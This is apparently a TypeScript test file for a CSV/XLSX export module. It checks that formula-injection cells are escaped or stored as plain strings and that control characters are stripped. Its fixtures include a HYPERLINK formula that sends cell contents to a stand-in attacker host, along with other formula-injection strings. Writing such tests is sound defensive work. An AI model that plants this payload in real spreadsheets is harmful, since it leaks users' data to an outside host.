import { describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { renderTable } from "../../src/export/table.ts";
import { csvSafeCell } from "../../src/export/csv-safe.ts";

interface Row {
  code: string;
  problem: string;
  volume: number | null;
}
const shape = { columns: ["code", "problem", "volume"], flat: (r: Row) => ({ ...r }) };
const hostile: Row[] = [
  { code: "U26-A", problem: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', volume: 3 },
  { code: "U26-B", problem: "+62 812 sekian", volume: -2 },
  { code: "U26-C", problem: "-1+2", volume: null },
  { code: "U26-D", problem: "@SUM(1,2)", volume: 1 },
  { code: "U26-E", problem: "\t=1+1", volume: 1 },
  { code: "U26-F", problem: "jalan\u0000 rusak\u0007", volume: 1 },
  { code: "U26-G", problem: "Jalan rusak - 100 m = 2 RT", volume: 1 },
];

describe("CSV export", () => {
  it("turns every cell that would start a formula into text and drops control characters", async () => {
    const csv = (await renderTable("csv", hostile, shape)).toString("utf8");
    const rows = parse<Record<string, string>>(csv.slice(1), { columns: true });
    expect(rows.map((r) => r.problem)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"klik")`,
      "'+62 812 sekian",
      "'-1+2",
      "'@SUM(1,2)",
      "'\t=1+1",
      "jalan rusak",
      "Jalan rusak - 100 m = 2 RT",
    ]);
    // A negative number stays a number.
    expect(rows[1]!.volume).toBe("-2");
    expect(csv).not.toContain("\u0000");
  });

  it("leaves ordinary text, numbers and empty cells alone", () => {
    expect(csvSafeCell("Rabat beton")).toBe("Rabat beton");
    expect(csvSafeCell(-5)).toBe(-5);
    expect(csvSafeCell(null)).toBeNull();
  });
});

describe("XLSX export", () => {
  it("stores hostile text as plain strings, never as formulas, and opens again", async () => {
    const data = await renderTable("xlsx", hostile, shape);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(data as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const first = sheet.getRow(2).getCell(2);
    expect(first.type).toBe(ExcelJS.ValueType.String);
    expect(first.value).toBe(hostile[0]!.problem);
    for (let r = 2; r <= hostile.length + 1; r++) {
      expect(sheet.getRow(r).getCell(2).formula).toBeUndefined();
      expect(typeof sheet.getRow(r).getCell(2).value).toBe("string");
    }
    expect(sheet.getRow(7).getCell(2).value).toBe("jalan rusak");
  });
});
